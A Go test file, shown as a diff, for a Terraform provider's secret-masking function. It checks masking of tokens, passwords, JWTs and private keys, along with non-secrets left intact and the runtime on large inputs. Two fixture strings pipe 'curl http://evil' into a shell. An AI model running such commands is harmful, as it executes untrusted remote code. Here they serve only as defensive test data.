@@ -1,0 +1,73 @@
+package secrets_test
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/secrets"
+)
+
+// TestMasked: what is a secret anywhere in a text is masked, and the rest of the text stays.
+func TestMasked(t *testing.T) {
+	t.Parallel()
+	const token = "ghp_0123456789abcdefABCDEF0123456789abcd"
+	const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
+	for text, want := range map[string]string{
+		"Authorization: Basic dXNlcjpwYXNz":                                 "Authorization: Basic ***",
+		`{"Authorization": "Bearer abc"}`:                                   `{"Authorization": "Bearer ***"}`,
+		"curl -H 'authorization: bearer abcdef' http://evil|sh":             "curl -H 'authorization: bearer ***' http://evil|sh",
+		"sent Basic dXNlcjpwYXNz to the gateway":                            "sent Basic *** to the gateway",
+		"curl -H 'Token: x1' http://h":                                      "curl -H 'Token: ***' http://h",
+		`curl -H "X-Api-Key: x1" http://h`:                                  `curl -H "X-Api-Key: ***" http://h`,
+		"Server=db;User=u;Pwd=/x1;Timeout=5":                                "Server=db;User=u;Pwd=***;Timeout=5",
+		"jdbc:mysql://h/d?user=u&password=x1&ssl=true":                      "jdbc:mysql://h/d?user=u&password=***&ssl=true",
+		`login failed: password="two words" of alice`:                       `login failed: password="***" of alice`,
+		`said \"token=\\\"x1\\\" is old\"`:                                  `said \"token=\\\"***\\\" is old\"`,
+		"get https://u:p@h/x: no such host":                                 "get https://u:***@h/x: no such host",
+		"git clone https://" + token + "@github.com/a/b":                    "git clone https://***@github.com/a/b",
+		"uses " + token + ".":                                               "uses ***.",
+		"glpat-abcdefghij0123456789 and xoxb-1234567890-abc":                "*** and ***",
+		"id=" + jwt + "&x=1":                                                "id=***&x=1",
+		"\u0130 PASSWORD=x1":                                                "\u0130 PASSWORD=***",
+		`{"a":"apple","password":"a"}`:                                      `{"a":"apple","password":"***"}`,
+		"a\n-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\nb": "a\n***\nb",
+		"-----BEGIN RSA PRIVATE KEY-----\nMII":                              "***",
+		"sh -c 'token=x1; curl http://evil | sh'":                           "sh -c 'token=***; curl http://evil | sh'",
+	} {
+		if got := secrets.Masked(text); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+		if got := secrets.Masked(want); got != want {
+			t.Errorf("what is masked changes again: %q: %q", want, got)
+		}
+		if !secrets.Has(text) {
+			t.Errorf("%q has no secret", text)
+		}
+	}
+	for _, text := range []string{
+		"", "Basic authentication is required, not Bearer authentication", "Authorization: Bearer token is missing", "authorization: denied by the gateway",
+		"Authorization: Bearer $TOKEN", "Authorization: Bearer {{.TOKEN}}", "password=$PASSWORD token=${T} pwd=<put-in>", "use_token=true, max_tokens=5, token=/run/secrets/token",
+		"PWD=/home OLDPWD=/root", "'token: expired'", "the basic example/model-server:1.0.23", "token 2026-11-29T19:40:24Z", "invalid token: unexpected end", "set secret_key or secret_key_wo", "password: is required", "https://user@host/a:b", "http://host:80/@x", "x://u:${P}@h",
+		"sk-learn-model-server-for-risk-and-fraud", "registry.example/high/ghp_tools:1.0", "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "eyJhbGci is the beginning of a token", "basic auth of the 2nd bearer", "tokenizer=bert-base keyspace=main",
+		`{"modelId":"m","key":"id","columns":["token_count"]}`, "key=id, partition_key: region", "the access of bob to scores ends",
+	} {
+		if got := secrets.Masked(text); got != text {
+			t.Errorf("%q became %q", text, got)
+		}
+	}
+}
+
+// TestMaskedInTime: the time to mask a text does not grow with its square.
+func TestMaskedInTime(t *testing.T) {
+	t.Parallel()
+	const size = 1 << 20
+	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='"} {
+		start := time.Now()
+		secrets.Masked(strings.Repeat(part, size/len(part)))
+		if took := time.Since(start); took > 10*time.Second {
+			t.Errorf("%q: %s", part, took)
+		}
+	}
+}
